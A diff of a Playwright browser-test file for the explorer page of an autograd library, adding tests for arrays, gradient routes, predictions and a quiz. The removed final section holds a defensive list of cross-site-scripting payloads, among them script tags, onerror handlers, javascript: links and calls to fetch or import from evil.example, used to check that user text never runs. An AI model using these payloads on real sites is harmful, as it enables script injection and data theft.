@@ -1,43 +1,30 @@
-"""The explorer's page in a real browser: steps, sliders, keys, themes, size; and that no text of the user's runs."""
+"""The explorer's page in a real browser: steps, sliders, keys, themes, size, routes, predictions, the quiz."""
 
-import importlib.util
-import json
-import os
 import re
-import shutil
 import time
-from itertools import cycle
+import xml.etree.ElementTree
 
 import pytest
 
 import pellucid as torch
+from explorer_chromium import NARROW, WIDE, caption, changes, chromium, move, opening, texts
 from pellucid import nn
+from pellucid.cli import quiz_for_the_page
 from pellucid.explorer import examples, explore, page, snapshot
+from pellucid.explorer.examples import seen_examples
+from pellucid.explorer.server import Server
+from pellucid.explorer.snapshot import look
 from pellucid.scalar import Value
-
-CHROMIUM = os.environ.get("PELLUCID_CHROMIUM") or next(
-    filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None
-)
-if importlib.util.find_spec("playwright") is None:
-    pytest.skip("needs playwright: pip install playwright", allow_module_level=True)
-if CHROMIUM is None:
-    pytest.skip("needs a Chromium: apt install chromium, or PELLUCID_CHROMIUM=/path/to/it", allow_module_level=True)
-
-from playwright.sync_api import sync_playwright  # noqa: E402
-
-OPTIONS = [
-    "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
-    "--disable-component-update", "--disable-sync",
-]  # fmt: skip
-WIDE, NARROW = {"width": 1280, "height": 800}, {"width": 390, "height": 844}
 
 
 @pytest.fixture(scope="module")
 def browser():
-    with sync_playwright() as playwright:
-        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=OPTIONS)
-        yield chromium
-        chromium.close()
+    yield from chromium()
+
+
+@pytest.fixture
+def opened(browser):
+    yield from opening(browser)
 
 
 @pytest.fixture(scope="module")
@@ -45,47 +32,6 @@ def gallery(tmp_path_factory):
     path = tmp_path_factory.mktemp("explorer") / "examples.html"
     path.write_text(page(examples(), "Examples"), encoding="utf-8")
     return path.as_uri()
-
-
-@pytest.fixture
-def opened(browser):
-    """Open an address; every error of the page, dialog and request to anywhere else fails the test."""
-    contexts, trouble = [], []
-
-    def open_(address, **options):
-        context = browser.new_context(viewport=options.pop("viewport", WIDE), **options)
-        contexts.append(context)
-        tab = context.new_page()
-        tab.on("pageerror", lambda error: trouble.append(f"error: {error}"))
-        tab.on("console", lambda message: trouble.append(message.text) if message.type == "error" else None)
-        tab.on("dialog", lambda dialog: (trouble.append(f"dialog: {dialog.message}"), dialog.dismiss()))
-        tab.on("request", lambda request: request.url.startswith("file:") or trouble.append(f"request: {request.url}"))
-        tab.goto(address)
-        tab.wait_for_selector("html[data-ready]", timeout=20_000)
-        return tab
-
-    yield open_
-    for context in contexts:
-        context.close()
-    assert trouble == []
-
-
-def caption(tab):
-    return tab.inner_text(".caption")
-
-
-def texts(tab, node):
-    """What a box shows: value and gradient."""
-    tab.evaluate("() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))")
-    box = tab.locator(f'g.box[data-node="{node}"]')
-    return box.locator(".value").text_content(), box.locator(".grad").text_content()
-
-
-def move(tab, leaf, value):
-    tab.locator(f'input[data-leaf="{leaf}"]').evaluate(
-        "(slider, value) => { slider.value = value; slider.dispatchEvent(new Event('input', { bubbles: true })); }",
-        value,
-    )
 
 
 # --- steps
@@ -227,6 +173,275 @@ def test_every_operation_of_the_interpreter(opened, tmp_path):
             assert float(gradient) == pytest.approx(expected["grad"]["numbers"][0], rel=1e-3, abs=1e-9), source
 
 
+ARRAYS = [
+    "w * b + 1", "torch.tanh(x @ w)", "(x @ w).mean(0)", "(w @ w.T).sum(1)",
+    "(x @ w).sum(0, keepdim=True)", "w.mean(1) - b.sum()", "torch.softmax(x @ w, 1)", "torch.log_softmax(x @ w, 0)",
+    "w.reshape(9).pow(3)", "w.unsqueeze(0).expand(2, 3, 3) * b", "w.T * w", "torch.dot(b, b) * w",
+    "nn.functional.linear(x, w, b).relu()", "nn.functional.linear(x, w)", "nn.functional.mse_loss(x @ w, x)",
+    "nn.functional.mse_loss(w, w * b, reduction='sum')", "nn.functional.mse_loss(x @ w, x, reduction='none')",
+    "torch.where(w > b, w, b.exp())", "torch.maximum(w, b) / (1 + w.abs())", "w.clamp(min=-0.5, max=0.6) * w",
+    "nn.functional.leaky_relu(w) + (w + 3).rsqrt()", "w.sinh() * b.cosh()", "(w @ b).sigmoid()",
+    "w.unsqueeze(0).expand(2, 3, 3).transpose(0, 2).mean((0, 1))", "x.unsqueeze(2).permute(2, 0, 1).sum(0) @ w",
+    "(w * b).squeeze()", "w.detach() * w", "(w @ w).sum() * w.mean()",
+]  # fmt: skip
+
+
+def test_small_arrays_are_computed_as_pellucid_does(opened, tmp_path):
+    """Every row that the page computes on arrays: after a change the same values, gradients and sentences."""
+    other = [0.3, -0.8, 1.1, 0.9, -0.2, 0.7, -1.3, 0.4, 0.1]
+
+    def run(source, numbers):
+        given = {
+            "x": torch.tensor([[0.5, -1.0, 2.0], [1.5, 0.25, -0.75]], dtype=torch.float64),
+            "w": torch.tensor(numbers, dtype=torch.float64).reshape(3, 3).requires_grad_(),
+            "b": torch.tensor([0.2, -0.4, 0.6], dtype=torch.float64, requires_grad=True),
+        }
+        return snapshot(lambda: eval(source, {"torch": torch, "nn": nn, **given}), scope=given)
+
+    pages = [run(source, [0.1 * i - 0.35 for i in range(9)]) for source in ARRAYS]
+    assert all(seen["arrays"] and not seen["live"] for seen in pages)
+    (tmp_path / "arrays.html").write_text(page(pages), encoding="utf-8")
+    tab = opened((tmp_path / "arrays.html").as_uri())
+    for index, source in enumerate(ARRAYS):
+        expected = run(source, other)
+        w = next(node["id"] for node in expected["nodes"] if node["name"] == "w")
+        tab.goto(f"{(tmp_path / 'arrays.html').as_uri()}#example={index}&v{w}={','.join(map(str, other))}")
+        found = tab.evaluate(CHANGED)
+        assert found["captions"] == [step["caption"] for step in expected["backward"]], source
+        for name in ("value", "grad"):
+            for mine, theirs in zip(found[name], expected["nodes"], strict=True):
+                if theirs[name]:
+                    assert mine == pytest.approx(theirs[name]["numbers"], rel=1e-9, abs=1e-12), (
+                        source,
+                        theirs["called"],
+                    )
+
+
+CHANGED = """async () => {
+  await new Promise((done) => setTimeout(done, 30));
+  const { model } = document.getElementById("app").explorer;
+  const numbers = (name) => model.nodes.map((node) => node[name] && node[name].numbers);
+  const captions = model.backward.map((_, step) => model.caption("backward", step));
+  return { captions, value: numbers("value"), grad: numbers("grad") };
+}"""
+
+
+def test_an_element_of_an_array_is_changed_by_its_field_or_the_slider(opened, gallery):
+    tab = opened(f"{gallery}#example=layer")
+    before = texts(tab, 7)[0]
+    tab.fill('input[data-leaf-number="0.1"]', "2")
+    assert texts(tab, 7)[0] != before and "norm" in caption(tab)
+    again = opened(tab.evaluate("location.href"))
+    assert caption(again) == caption(tab) and again.input_value('input[data-leaf-number="0.1"]') == "2"
+    tab.click("text=Reset")
+    assert texts(tab, 7)[0] == before
+
+
+def test_a_page_says_when_its_numbers_are_fixed(opened, tmp_path):
+    x = torch.randn(20, 30, requires_grad=True)
+    tab = opened(explore(lambda x: (x @ x.T).logsumexp(0).sum(), x).save_html(tmp_path / "fixed.html").as_uri())
+    assert "fixed on this page" in tab.inner_text(".inputs")
+
+
+# --- routes, reasons, predictions
+
+
+def test_whole_routes_add_up(opened, gallery):
+    tab = opened(f"{gallery}#example=sliders&node=1")
+    assert tab.locator(".routes li .route").all_text_contents() == ["c ← b", "c ← sum ← b"]
+    assert tab.locator(".routes li .route-numbers").all_text_contents() == ["1 × 5 = 5", "1 × 3 × 1 = 3"]
+    assert "Two routes: 5 + 3 = 8" in tab.inner_text(".node")
+    move(tab, 1, -2)
+    assert "Two routes: -2 + 0 = -2" in tab.inner_text(".node")
+
+
+def test_many_routes_are_counted_and_the_strongest_listed(opened, tmp_path):
+    y = Value(1.0, label="x")
+    for _ in range(40):
+        y = y + y * 0.5
+    tab = opened(explore(y, scope={}).save_html(tmp_path / "routes.html").as_uri() + "#node=0")
+    assert "the strongest of 1.1e12" in tab.inner_text(".node") and tab.locator(".routes li").count() == 6
+    assert "more routes) = 1.106e7" in tab.inner_text(".node")
+
+
+@pytest.mark.parametrize(
+    ("example", "question", "reason"),
+    [
+        ("nan", "Why not a number?", "It starts in log(x): 0 × ∞ = NaN."),
+        ("vanishing", "Why so small?", "21 steps, each of which multiplies it by 0.247 on average."),
+        ("relu-tanh&v0=-40", "Why zero?", "Every route has a factor 0: in"),
+    ],
+)
+def test_why_a_gradient_is_bad(opened, gallery, example, question, reason):
+    tab = opened(f"{gallery}#example={example}&node=0")
+    assert tab.inner_text(".why").startswith(f"{question} {reason}")
+
+
+def test_what_if_draws_the_gradient_as_a_slope(opened, gallery):
+    tab = opened(f"{gallery}#example=sliders&node=1")
+    assert tab.locator("svg.tangent .triangle").count() == 1
+    assert "changes c at a rate of 8; the gradient says 8." in tab.inner_text(".node")
+
+
+def test_predictions_are_judged_before_the_step_is_shown(opened, gallery):
+    tab = opened(f"{gallery}#example=sliders")
+    tab.click("button.predict-button")
+    assert caption(tab) == "Start at the end: ∂c/∂c = 1." and texts(tab, 1)[1] == "grad ?"
+    assert tab.locator(".routes, table.paths").count() == 0  # nothing gives it away
+    tab.fill("#prediction", "5")
+    tab.keyboard.press("Enter")
+    assert tab.inner_text(".predict-said") == "Right. ∂c/∂b = 5."
+    tab.fill("#prediction", "3")
+    tab.keyboard.press("Enter")
+    said = tab.inner_text(".predict-said")
+    assert said.startswith("Not 3. That is path 2 alone; the paths add up: ∂c/∂b = 8.") and "1 of 2 right" in said
+    assert texts(tab, 1)[1] == "grad 8"
+    tab.click("button.mode.forward")
+    tab.fill("#prediction", "five")
+    tab.keyboard.press("Enter")
+    assert tab.inner_text(".predict-said") == "Type a number."
+
+
+# --- the quiz
+
+
+@pytest.fixture(scope="module")
+def quiz_page(tmp_path_factory):
+    quiz = quiz_for_the_page()
+    path = tmp_path_factory.mktemp("quiz") / "quiz.html"
+    path.write_text(page(examples()[:2], "Quiz", quiz=quiz.as_json(key=True)), encoding="utf-8")
+    return path.as_uri()
+
+
+def test_a_saved_page_judges_what_needs_no_program(opened, quiz_page):
+    tab = opened(f"{quiz_page}#quiz=q-01-01")
+    assert not tab.locator(".answers").is_visible() and "Pause and predict" in tab.inner_text(".quiz")
+    tab.click(".pause button")
+    tab.fill(".answers input[aria-label=a]", "3")
+    tab.fill(".answers input[aria-label=b]", "5")
+    tab.keyboard.press("Enter")
+    said = tab.inner_text(".verdict")
+    assert "b: 5 is not the whole gradient; the path through the sum" in said and "a + 2b" in said
+    tab.click(".next-question")
+    assert tab.evaluate("location.hash").endswith("quiz=q-01-02")
+    assert "0 of 1 right" in tab.inner_text(".quiz")
+
+
+def test_a_saved_page_and_the_lab_judge_alike(opened, quiz_page):
+    """Every question of the saved page, answered rightly and wrongly: the verdict of pellucid.lab.grading."""
+    from pellucid.lab.grading import grade
+    from pellucid.lab.questions import read_questions
+
+    tab = opened(f"{quiz_page}#quiz=q-01-01")
+    asked = {each.id: each for each in read_questions()}
+    tried = [
+        (index, asked[id], answer)
+        for index, id in enumerate(tab.evaluate(IDS))
+        for answer in answers_to(asked[id])
+    ]  # fmt: skip
+    assert len(tried) > 100
+    for (_, question, answer), found in zip(
+        tried, tab.evaluate(JUDGE, [[index, answer] for index, _, answer in tried]), strict=True
+    ):
+        verdict = grade(question, answer_text(question, answer), "en")
+        assert (found["right"], found["remarks"]) == (verdict.right, list(verdict.remarks)), (question.id, answer)
+
+
+IDS = "document.getElementById('app').explorer.quiz.questions.map((each) => each.id)"
+JUDGE = """(tried) => {
+  const { quizPanel } = document.getElementById("app").explorer;
+  return tried.map(([index, answer]) => {
+    quizPanel.index = index;
+    return quizPanel.judgeHere(answer);
+  });
+}"""
+
+
+def answers_to(question):
+    """Answers that are right and wrong; none to a question that the learner judges."""
+    if question.choices:
+        letters = "abcdefghij"[: len(question.choices)]
+        several = [letters] if question.kind == "multiple" else []
+        return [{"letters": list(each), "text": each} for each in [*letters, *several]]
+    right = [f"{part.value!r}" for part in question.parts]
+    off = [f"{part.paths[0][1] if part.paths else -part.value!r}" for part in question.parts]
+    return [{"numbers": each, "text": ""} for each in (right, off, ["12345.5"] * len(right)) if right]
+
+
+def answer_text(question, answer):
+    if "letters" in answer:
+        return answer["text"]
+    if question.kind == "numeric":
+        return answer["numbers"][0]
+    return ", ".join(f"{part.name} = {text}" for part, text in zip(question.parts, answer["numbers"], strict=True))
+
+
+@pytest.fixture
+def served(opened):
+    """A page from a server, with the programs of the examples and the quiz; its own requests are no trouble."""
+    kept = []
+    quiz = quiz_for_the_page()
+    quiz.keep = lambda question, language: kept.append((question.id, language))
+    seen = seen_examples()
+    x = torch.randn(20, 30, requires_grad=True)
+    large = look(lambda x: (x @ x.T).logsumexp(0).sum(), x, title="large", scope={"x": x})
+    data = [each.data for each in [*seen, large]]
+    with Server(data, "Served", programs=[each.program for each in [*seen, large]], quiz=quiz) as server:
+        tab = opened(server.url, own=f"http://127.0.0.1:{server.http.server_port}/")
+        yield tab, kept
+
+
+def test_the_server_judges_and_keeps_a_card(served):
+    tab, kept = served
+    tab.click("button.quiz-button")
+    tab.select_option(".quiz select >> nth=1", "es")
+    tab.click(".pause button")
+    tab.fill(".answers input[aria-label=a]", "3")
+    tab.fill(".answers input[aria-label=b]", "3")
+    tab.keyboard.press("Enter")
+    tab.wait_for_selector(".is-wrong")
+    assert "falta el camino directo" in tab.inner_text(".verdict")
+    tab.click("text=Guardar como tarjeta")
+    tab.wait_for_selector("text=Guardada como la tarjeta q-01-01")
+    assert kept == [("q-01-01", "es")]
+
+
+def test_the_server_runs_the_program_that_answers(served):
+    tab, _ = served
+    tab.evaluate("document.getElementById('app').explorer.quizPanel.toggle('q-01-06')")
+    tab.fill(".answers textarea", "da, db = 3.0, 5.0\nprint('<b>hello</b>')")
+    tab.click(".answers button")
+    tab.wait_for_selector(".is-wrong", timeout=30_000)
+    said = tab.inner_text(".verdict")
+    assert (
+        "db lacks the path through the sum" in said
+        and "<b>hello</b>" in said
+        and tab.locator(".verdict b").count() == 0
+    )
+
+
+def test_the_server_computes_what_the_page_cannot(served):
+    tab, _ = served
+    tab.select_option("header select", label="large")
+    before = texts(tab, 0)[1]
+    tab.locator("input[data-leaf-times]").evaluate(
+        "(slider) => { slider.value = 0.5; slider.dispatchEvent(new Event('input')); }"
+    )
+    changes(tab, "g.box .grad", before)
+    assert "v0=x0.5" in tab.evaluate("location.hash")
+    tab.click("text=Reset")
+    assert texts(tab, 0)[1] == before
+
+
+def test_a_server_that_is_gone_is_told(served):
+    tab, _ = served
+    tab.route("**/expression", lambda route: route.abort())
+    tab.fill(".playground input", "a * b")
+    tab.evaluate("window.quiet = true")
+    tab.click("text=Show it")
+    tab.wait_for_selector("text=Pellucid does not answer any more")
+
+
 # --- finding things
 
 
@@ -252,6 +467,7 @@ def test_search_finds_and_enter_goes_there(opened, gallery):
         ("inf", "1 of 5"),
         ("log", "3 of 5"),
         ("grad>0.5", "2 of 5"),
+        ("saved>0", "2 of 5"),
         ("line:3", "1 of 5"),
     ]:
         tab.fill("input.search", query)
@@ -279,6 +495,24 @@ def test_nonsense_in_the_address_is_ignored(opened, gallery):
     assert texts(tab, 0)[0] == "2"
 
 
+def test_the_picture_can_be_saved(opened, gallery, tmp_path):
+    tab = opened(f"{gallery}#example=layer")
+    with tab.expect_download() as saved:
+        tab.click("button[aria-label='Save the picture as SVG']")
+    saved.value.save_as(tmp_path / "graph.svg")
+    drawn = xml.etree.ElementTree.parse(tmp_path / "graph.svg").getroot()
+    said = [element.text for element in drawn.iter("{http://www.w3.org/2000/svg}text")]
+    assert {"W", "UPDATE!", "∂loss/∂W = δ xᵀ", "loss"} <= set(said)
+    assert texts(tab, 7)[0] == "1.417"  # the page goes on as before
+
+
+def test_an_update_badge_stands_on_parameters_only(opened, gallery):
+    tab = opened(f"{gallery}#example=layer")
+    assert tab.locator("g.box:has(.badge) .name").all_text_contents() == ["W", "b"]
+    assert tab.locator(".badge").all_text_contents() == ["UPDATE!", "UPDATE!"]
+    assert texts(tab, 2)[1] == "(no grad)"
+
+
 # --- models and training
 
 
@@ -294,6 +528,18 @@ def test_modules_open_and_fold(opened, tmp_path):
     tab.locator(".crumbs button", has_text="model.0.self_attn").click()
     tab.wait_for_timeout(100)
     assert tab.locator("g.box.module").count() == groups
+
+
+def test_of_many_leaves_the_selected_one_can_be_changed(opened, tmp_path):
+    model = nn.Sequential(*[nn.Linear(2, 2) for _ in range(5)])
+    path = explore(lambda model, x: model(x).sum(), model, torch.ones(1, 2)).save_html(tmp_path / "model.html")
+    tab = opened(path.as_uri())
+    assert tab.locator(".inputs .array-input").count() == 1
+    tab.select_option(".inputs select", label="model.3.bias (2)")
+    tab.fill(".cells input >> nth=1", "7")
+    assert "%2C7" in tab.evaluate("location.hash")
+    tab.evaluate("document.getElementById('app').explorer.select(4)")
+    assert tab.locator(".inputs select").evaluate("(e) => e.selectedOptions[0].textContent") == "model.2.weight (2×2)"
 
 
 def test_training_is_played(opened, gallery):
@@ -334,6 +580,10 @@ def test_everything_is_reached_by_keyboard_and_named(opened, gallery):
     )
     assert unnamed == 0
     assert tab.get_attribute(".caption", "aria-live") == "polite"
+    loud = tab.locator("[aria-live], [role=status], output").evaluate_all(
+        "(all) => all.filter((each) => each.textContent.trim()).map((each) => each.className)"
+    )
+    assert loud == ["caption backward"]  # one voice: what else changes is read when one goes there
     listed = tab.locator(".tree li").all_text_contents()
     assert listed[1] == "b: value 3, gradient 8" and listed[3] == "c = sum * b: value 15, gradient 1"
 
@@ -370,7 +620,7 @@ def test_five_thousand_nodes_open_in_two_seconds(opened, tmp_path):
     shown = explore(wide_graph(5_000))
     assert len(shown.snapshot["nodes"]) >= 4_990
     path = shown.save_html(tmp_path / "large.html")
-    assert any(open_time(opened, path) < 2.0 for _ in range(4))  # the machine may be busy
+    assert any(open_time(opened, path) < 2.0 for _ in range(8))  # the machine may be busy
 
 
 def open_time(opened, path):
@@ -379,79 +629,3 @@ def open_time(opened, path):
     taken = time.perf_counter() - start
     assert tab.locator("g.box").count() < 400  # only what is visible
     return taken
-
-
-# --- what the user wrote does not run
-
-
-CALLS = ["canary()", "top.canary()", "alert(1)", "fetch('http://evil.example/')", "import('http://evil.example/x.js')"]
-FRAMES = [
-    "</script><script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>",
-    "javascript:{}", '"><script>{}</script>', "'><img src=x onerror=\"{}\">", "&lt;script&gt;{}&lt;/script&gt;",
-    "&quot;><script>{}</script>", "\u2028{}\u2029", "{{{{{}}}}}", "${{{}}}", "<iframe srcdoc='<script>{}</script>'>",
-    "<style>*{{background:url(javascript:{})}}</style>", "<a href='javascript:{}'>", "<!--<script>{}</script>-->",
-    "]]><script>{}</script>", "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
-    "<object data='javascript:{}'>", "<body onload={}>", "<details open ontoggle={}>",
-    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
-]  # fmt: skip
-PAYLOADS = [frame.format(call) for frame in FRAMES for call in CALLS]
-
-
-def hostile(value, payloads):
-    """The same snapshot with every text in it replaced, each by the next payload."""
-    if isinstance(value, dict):
-        keep = ("mode", "row", "cells", "id")
-        return {key: each if key in keep else hostile(each, payloads) for key, each in value.items()}
-    if isinstance(value, list):
-        return [hostile(each, payloads) for each in value]
-    return next(payloads) if isinstance(value, str) and value not in ("NaN", "Infinity", "-Infinity") else value
-
-
-VISIT = """async (payloads) => {
-  const frame = () => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
-  const tell = (element, kind) => element.dispatchEvent(new Event(kind, { bubbles: true }));
-  const [picker, field] = ["header select", "input.search"].map((name) => document.querySelector(name));
-  for (const [index, payload] of payloads.entries()) {
-    picker.value = index;
-    tell(picker, "change");
-    await frame();
-    for (const box of document.querySelectorAll("g.box")) ["click", "mouseover"].forEach((kind) => tell(box, kind));
-    field.value = payload;
-    tell(field, "input");
-    await frame();
-  }
-}"""
-
-
-def test_no_payload_runs(opened, tmp_path):
-    assert len(PAYLOADS) >= 100
-    chosen = [each for each in examples() if each["id"] in ("loss", "layer", "nan")]
-    payloads = cycle(PAYLOADS)
-    pages = [hostile(chosen[i % 3], payloads) for i in range(9)]
-    told = json.dumps(pages)
-    assert all(json.dumps(payload)[1:-1] in told for payload in PAYLOADS)
-    path = tmp_path / "hostile.html"
-    path.write_text(page(pages, PAYLOADS[0]), encoding="utf-8")
-    tab = opened(path.as_uri())
-    tab.evaluate("() => { window.canary = () => { window.sung = true; }; }")
-    tab.evaluate(VISIT, PAYLOADS[: len(pages)])
-    foreign = "script:not([nonce]):not(#data), img, iframe, object, a, form, math, body style"
-    assert tab.locator(foreign).count() == 0
-    assert tab.evaluate("window.sung") is None
-    assert tab.evaluate("document.title") == PAYLOADS[0]
-
-
-def test_no_payload_runs_in_a_notebook(opened, tmp_path):
-    frames = []
-    for payload in PAYLOADS[::10]:
-        x = Value(2.0, label=payload)
-        frames.append(explore(x * x, title=payload, scope={})._repr_html_())
-    host = f"<!doctype html><html data-ready><script>canary = () => {{ sung = true }}</script>{''.join(frames)}</html>"
-    (tmp_path / "notebook.html").write_text(host, encoding="utf-8")
-    tab = opened((tmp_path / "notebook.html").as_uri())
-    tab.wait_for_timeout(500)
-    assert tab.evaluate("typeof sung") == "undefined"
-    assert tab.locator("iframe").count() == len(frames)
-    inside = tab.frames[1]
-    inside.wait_for_selector("html[data-ready]")
-    assert inside.locator("g.box").count() == 2
